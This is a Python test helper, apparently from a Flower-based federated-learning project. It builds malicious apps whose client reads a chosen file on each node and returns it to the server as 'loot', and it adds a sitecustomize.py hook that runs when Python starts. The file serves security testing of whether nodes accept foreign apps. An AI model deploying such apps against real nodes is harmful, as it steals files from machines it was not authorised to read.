"""Apps that a malicious server would send to nodes: what they bring, and what comes back."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

OURS = "fedbandits.federation.flower.client:app"

# Whatever of this runs on a node leaves a file behind, and says what is in a file of the node.
_CLIENT = """
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

Path(TRACE).open("a").write("loaded")
app = ClientApp()

@app.query()
def query(message, context):
    found = Path(SECRET).read_text()
    return Message(RecordDict({"loot": ConfigRecord({"text": found})}), reply_to=message)
"""

_SERVER = """
import json, time
from pathlib import Path
from flwr.app import Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    while len(nodes := list(grid.get_node_ids())) < NODES:
        time.sleep(0.2)
    asked = [Message(RecordDict(), node, "query") for node in nodes]
    said = [
        {"error": reply.error.reason} if reply.has_error()
        else {"loot": str(reply.content["loot"]["text"])}
        for reply in grid.send_and_receive(asked, timeout=180)
    ]
    whole = Path(LOOT + ".part")
    whole.write_text(json.dumps(said))
    whole.rename(LOOT)
"""

_ABOUT = """
[project]
name = "{name}"
version = "1.0.0"
description = "An app."
license = "Apache-2.0"
dependencies = []

[tool.flwr.app]
publisher = "fedbandits"

[tool.flwr.app.components]
serverapp = "{package}.server:app"
clientapp = "{client}"

[tool.flwr.app.config]
project = ""
"""


def write_foreign_app(
    folder: Path,
    *,
    name: str,
    package: str,
    client: str,
    secret: Path,
    trace: Path,
    loot: Path,
    nodes: int,
) -> Path:
    """Write an app whose client would read a file of its node; return its folder.

    Its server waits until as many nodes as ``nodes`` are connected, and asks all of them.
    """
    inside = folder / package
    inside.mkdir(parents=True)
    named = f"TRACE, SECRET, LOOT, NODES = {(str(trace), str(secret), str(loot), nodes)!r}\n"
    (folder / "pyproject.toml").write_text(_ABOUT.format(name=name, package=package, client=client))
    (inside / "__init__.py").write_text("")
    for file, text in {"client.py": _CLIENT, "server.py": _SERVER}.items():
        (inside / file).write_text(named + text)
    (folder / "sitecustomize.py").write_text(named + "open(TRACE, 'a').write('site')\n")
    return folder


def bundle(files: dict[str, str]) -> bytes:
    """Return files as a bundle."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return packed.getvalue()


def about(client: str, package: str = "fedbandits") -> str:
    """Return what a bundle says of itself."""
    return _ABOUT.format(name="colours", package=package, client=client)
